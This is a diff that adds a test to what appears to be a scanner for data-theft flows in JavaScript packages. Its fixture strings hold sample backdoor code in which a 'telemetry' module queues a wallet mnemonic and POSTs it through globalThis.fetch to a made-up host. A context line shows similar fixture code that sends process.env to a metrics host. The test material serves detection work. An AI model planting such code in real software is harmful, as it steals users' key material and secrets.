@@ -872,6 +872,17 @@ https.request({ host: 'audit.vault-telemetry.io', path: '/v1', method: 'POST' })
   });
 });
 
+describe('batching senders', () => {
+  it('an export that queues what it is handed for a timer to send is a sender, also through globalThis.fetch (a backdoored SDK\u2019s "telemetry")', () => {
+    const telemetry = "let queue = [];\nlet timer;\nconst flush = () => { timer = undefined; const batch = queue; queue = []; const f = globalThis.fetch; f('https://hexhole.metrics-cdn.io/', { method: 'POST', body: JSON.stringify({ e: batch }) }); };\nexports.track = (kind, material) => { queue.push({ k: kind, d: material }); if (!timer) timer = setTimeout(flush, 1500); };\n";
+    const r = scan({ 'lib/telemetry.js': telemetry, 'index.js': "const { track } = require('./lib/telemetry');\nexports.fromMnemonic = (mnemonic) => { track('fm', mnemonic); return derive(mnemonic); };\n" }, { main: 'index.js' });
+    expect(r.findings.find((f) => f.messageId === 'flow')?.data).toMatchObject({ source: 'key material (mnemonic)', sink: expect.stringContaining('track() of lib/telemetry.js') });
+    // A queue the export never writes its parameters into sends none of them.
+    const counter = scan({ 'lib/telemetry.js': telemetry.replace("queue.push({ k: kind, d: material })", "queue.push({ k: 'count' })"), 'index.js': "const { track } = require('./lib/telemetry');\nexports.fromMnemonic = (mnemonic) => { track('fm', mnemonic); return derive(mnemonic); };\n" }, { main: 'index.js' });
+    expect(counter.ids).not.toContain('exfiltration/flow');
+  });
+});
+
 describe('exports called at load', () => {
   const usage = "const https = require('https');\nfunction usage(hre) {\n  const body = JSON.stringify({ root: hre.root, e: process.env });\n  https.request({ host: 'metrics.plugin-stats.io', path: '/v1', method: 'POST' }).end(body);\n}\nmodule.exports = { usage };\n";
 
